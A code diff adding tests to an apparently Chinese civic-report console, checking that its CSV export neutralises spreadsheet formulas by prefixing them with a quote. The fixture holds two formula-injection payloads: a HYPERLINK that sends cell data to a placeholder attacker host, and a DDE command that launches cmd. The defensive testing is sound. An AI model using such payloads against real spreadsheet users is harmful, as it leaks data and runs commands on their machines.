@@ -90,3 +90,26 @@ async def test_csv_export_holds_the_filtered_cases_for_excel(browser: Browser, c
     assert "since 不是有效日期" in await page.inner_text("#export-error")
     assert [a.action for a in await console.store.audit_of("cases", "export")] == ["exported", "exported"]
     await page.context.close()
+
+
+FORMULAS = {"text": '=HYPERLINK("http://evil.example/?d="&A1,"路灯不亮")', "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "class_id": "cp-0118", "location": {"lat": 31.31, "lon": 120.61}}
+
+
+async def test_csv_export_hands_no_formula_to_a_spreadsheet(browser: Browser, console: Site, make_user: MakeUser, key: str) -> None:
+    """A citizen's text that a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is exported as text."""
+    await report(console, key, **FORMULAS)
+    await report(console, key, **(FORMULAS | {"text": "+86 路灯坏了", "address": "-1+1 人民路", "location": {"lat": 31.33, "lon": 120.64}}))
+    page = await admin_page(browser, console, make_user, "/console/admin/export")
+    async with page.expect_download() as download:
+        await page.click("form button.primary")
+    rows = list(csv.DictReader(io.StringIO((await (await download.value).path()).read_text(encoding="utf-8-sig"))))
+    assert {(r["text"], r["address"]) for r in rows} == {("'" + FORMULAS["text"], "'" + FORMULAS["address"]), ("'+86 路灯坏了", "'-1+1 人民路")}
+    assert {r["lat"] for r in rows} == {"31.310000", "31.330000"}
+    await page.context.close()
+
+
+@pytest.mark.parametrize("value, exported", [("=1+2", "'=1+2"), ("\t=1+2", "'\t=1+2"), ("\r=1+2", "'\r=1+2"), ("-", "'-"),
+                                             ("-120.500000", "-120.500000"), ("人民路 = 1", "人民路 = 1"), ("", "")])
+def test_a_cell_beginning_like_a_formula_is_marked_as_text(value: str, exported: str) -> None:
+    assert export.cell(value) == exported
